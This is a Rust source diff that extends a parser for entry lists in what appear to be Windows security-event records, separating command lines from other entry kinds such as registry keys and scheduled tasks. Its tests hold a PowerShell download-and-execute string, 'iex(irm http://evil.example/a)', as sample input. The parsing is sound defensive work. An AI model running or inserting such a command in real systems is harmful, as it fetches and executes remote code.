@@ -30,6 +30,19 @@ pub(crate) fn commands(list: &str) -> impl Iterator<Item = &str> {
         .map(|(_, command)| command.trim())
 }
 
+/// Says whether a list holds a command, which whoever wrote it may have made look like anything.
+pub(crate) fn has_command(list: &str) -> bool {
+    commands(list).next().is_some()
+}
+
+/// What else a list holds, as it stands there: entries of other kinds, and all commands but the first.
+pub(crate) fn others(list: &str) -> impl Iterator<Item = String> {
+    let mut is_first = true;
+    entries(list)
+        .filter(move |(kind, _)| !is_file(kind) && !(is_command(kind) && std::mem::take(&mut is_first)))
+        .map(|(kind, text)| format!("{kind}:_{}", text.trim()))
+}
+
 fn is_file(kind: &str) -> bool {
     kind.to_ascii_lowercase().ends_with("file")
 }
@@ -38,17 +51,39 @@ fn is_command(kind: &str) -> bool {
     kind.eq_ignore_ascii_case("cmdline")
 }
 
-/// The entries of a list, each with its kind. A command or a URL may have a semicolon in it: only what begins like an entry is one.
+/// The entries of a list, each with its kind. A command or a URL may have a semicolon in it: only what begins like an entry is one, and
+/// behind a command only one of a kind that there is.
 fn entries(list: &str) -> impl Iterator<Item = (&str, &str)> {
     const BETWEEN: &str = "; ";
     let mut rest = Some(list.trim_start());
     std::iter::from_fn(move || {
         let (kind, text) = entry(rest.take()?)?;
         let mut ends = text.match_indices(BETWEEN).map(|(at, _)| at);
-        let end = ends.find(|at| entry(&text[at + BETWEEN.len()..]).is_some());
+        let is_text = is_command(kind);
+        let end =
+            ends.find(|at| entry(&text[at + BETWEEN.len()..]).is_some_and(|(next, _)| !is_text || is_known(next)));
         rest = end.map(|end| &text[end + BETWEEN.len()..]);
         Some((kind, &text[..end.unwrap_or(text.len())]))
     })
+}
+
+fn is_known(kind: &str) -> bool {
+    const OTHERS: [&str; 13] = [
+        "amsi",
+        "behavior",
+        "clsid",
+        "driver",
+        "folder",
+        "internalbehavior",
+        "process",
+        "regkey",
+        "regkeyvalue",
+        "runkey",
+        "service",
+        "startup",
+        "taskscheduler",
+    ];
+    is_file(kind) || is_command(kind) || OTHERS.iter().any(|other| kind.eq_ignore_ascii_case(other))
 }
 
 /// The kind of an entry and what is behind it, if one begins here: `file:_C:\a.exe`.
@@ -91,5 +126,9 @@ mod tests {
         assert_eq!(commands, [r"C:\p.exe -c a; b:_; iex(irm http://evil.example/a)"]);
         assert_eq!(files(list).collect::<Vec<_>>(), [r"C:\a.ps1"]);
         assert!(is_list("data.win.eventdata.path", r"CmdLine:_C:\p.exe") && urls(list).next().is_none());
+        assert_eq!(others(list).collect::<Vec<_>>(), [r"amsi:_C:\p.exe"]);
+        let list = r"CmdLine:_a; zz:_; b; CmdLine:_c; process:_pid:1";
+        assert_eq!(super::commands(list).collect::<Vec<_>>(), ["a; zz:_; b", "c"]);
+        assert_eq!(others(list).collect::<Vec<_>>(), ["CmdLine:_c", "process:_pid:1"]);
     }
 }
